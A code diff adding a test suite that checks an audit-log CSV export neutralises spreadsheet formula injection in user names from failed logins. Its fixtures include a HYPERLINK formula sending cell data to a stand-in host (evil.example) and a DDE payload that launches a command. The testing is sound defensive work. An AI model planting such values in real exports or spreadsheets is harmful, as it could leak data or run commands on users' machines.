@@ -214,3 +214,57 @@ describe.each(backends.names)('audit export size (%s)', (backend) => {
     expect(JSON.parse(lines.at(-1)!).id).toBe(50_001);
   });
 });
+
+describe('CSV export of client-chosen text', () => {
+  let ws: Workspace;
+  let app: App;
+  // User names a client claims with Basic credentials, each starting with a character a spreadsheet
+  // would read as the start of a formula.
+  const CLAIMED = ['=HYPERLINK("//evil.example/?"&A1,"details")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'plain-user'];
+  const REQUEST_ID = '-1-1';
+
+  beforeAll(async () => {
+    ws = await workspace('csv');
+    const base = baseConfig();
+    await ws.write({ ...base, auth: { ...(base.auth as object), pull: 'token' } });
+    app = await ws.open();
+    for (const name of CLAIMED) {
+      const res = await request(app.express)
+        .get('/v2/upstream.test/org/app/manifests/1')
+        .set('Authorization', `Basic ${Buffer.from(`${name}:wrong-secret`).toString('base64')}`)
+        .set('X-Request-Id', REQUEST_ID);
+      expect(res.status).toBe(401);
+    }
+  });
+  afterAll(() => ws.remove());
+
+  const exported = (format: string) =>
+    request(app.express).get(`/api/v1/audit/events?kind=auth.failure&format=${format}`).set('Authorization', bearer('audrey'));
+
+  it('neutralises cells that begin with = + - @ tab or CR, quoted, and leaves other cells alone', async () => {
+    const csv = await exported('csv');
+    expect(csv.status).toBe(200);
+    const [header, ...rows] = parseCsv(csv.text);
+    const col = (name: string) => header!.findIndex((c) => c.value === name);
+    expect(rows.map((r) => r[col('user')]!.value)).toEqual(CLAIMED.map((n) => (n === 'plain-user' ? n : `'${n}`)));
+    for (const r of rows) {
+      expect(r[col('requestId')]).toEqual({ value: `'${REQUEST_ID}`, quoted: true });
+      expect(r[col('reference')]!.value).toBe('GET /v2/upstream.test/org/app/manifests/1');
+      expect(r[col('status')]).toEqual({ value: '401', quoted: false });
+    }
+    // In the raw text, no cell starts with a formula character, even where the text has a comma or quote.
+    expect(csv.text).toContain(`"'=HYPERLINK(""//evil.example/?""&A1,""details"")"`);
+    expect(csv.text).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/);
+    // The CLI writes the same export.
+    const local = await cli(['audit', 'query', '--config', ws.configPath, '--kind', 'auth.failure', '--format', 'csv']);
+    expect(local.stdout).toBe(csv.text);
+  });
+
+  it('keeps JSON and NDJSON exact', async () => {
+    const json = (await exported('json')).body.events as Array<{ user: string; requestId: string }>;
+    expect(json.map((e) => e.user)).toEqual(CLAIMED);
+    expect(json.every((e) => e.requestId === REQUEST_ID)).toBe(true);
+    const ndjson = (await exported('ndjson')).text.trim().split('\n').map((l) => JSON.parse(l) as { user: string });
+    expect(ndjson.map((e) => e.user)).toEqual(CLAIMED);
+  });
+});
